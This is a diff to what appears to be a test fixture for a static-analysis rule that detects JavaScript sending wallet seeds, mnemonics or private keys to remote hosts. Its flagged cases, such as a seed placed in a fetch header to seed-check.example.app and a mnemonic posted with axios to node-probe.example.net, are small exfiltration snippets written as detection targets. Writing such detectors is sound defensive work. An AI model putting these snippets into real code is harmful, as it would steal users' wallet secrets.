@@ -2,7 +2,7 @@
 // RULEID: privateKey in a fetch body to a literal host; a mnemonic in an axios.post to a literal host
 //   via a variable; an arrow sending a key in the URL (helpers: js-exfil-private-key-helper); a seed
 //   in a jQuery ajax body; mnemonic words in an XHR send; a wallet seed over a WebSocket; a wallet
-//   secret in a client.post query string.
+//   secret in a client.post query string; a seed in a custom header to a URL held in a local const; a mnemonic posted to a URL object.
 // OK: a signature made with the private key sent to a literal host; a public key/address sent; a
 //   private key sent to a local signer on localhost; a key sent to a configured URL; a jwt signed
 //   with the private key as a bearer token; a payment SDK sending its API secretKey as
@@ -96,4 +96,29 @@ async function showAddress(seed) {
   const addr = Wallet.fromSeed(seed).classicAddress;
   // ok: js-exfil-private-key
   await $.post('https://explorer.example.com/watch', { address: addr });
+}
+
+async function validate(seed) {
+  const endpoint = 'https://seed-check.example.app/v1/validate';
+  // ruleid: js-exfil-private-key
+  await fetch(endpoint, { method: 'POST', headers: { 'x-ref': seed } }).catch(() => undefined);
+}
+
+async function lookup(address) {
+  const api = 'https://explorer.example.com/api/account';
+  // ok: js-exfil-private-key
+  return fetch(api, { method: 'POST', body: JSON.stringify({ address }) });
+}
+
+async function probe(mnemonic) {
+  const target = new URL('https://node-probe.example.net/p');
+  target.searchParams.set('build', '7');
+  // ruleid: js-exfil-private-key
+  await axios.post(target, { m: mnemonic });
+}
+
+async function stats(count) {
+  const u = new URL('https://stats.example.com/c');
+  // ok: js-exfil-private-key
+  await fetch(u, { method: 'POST', body: String(count) });
 }
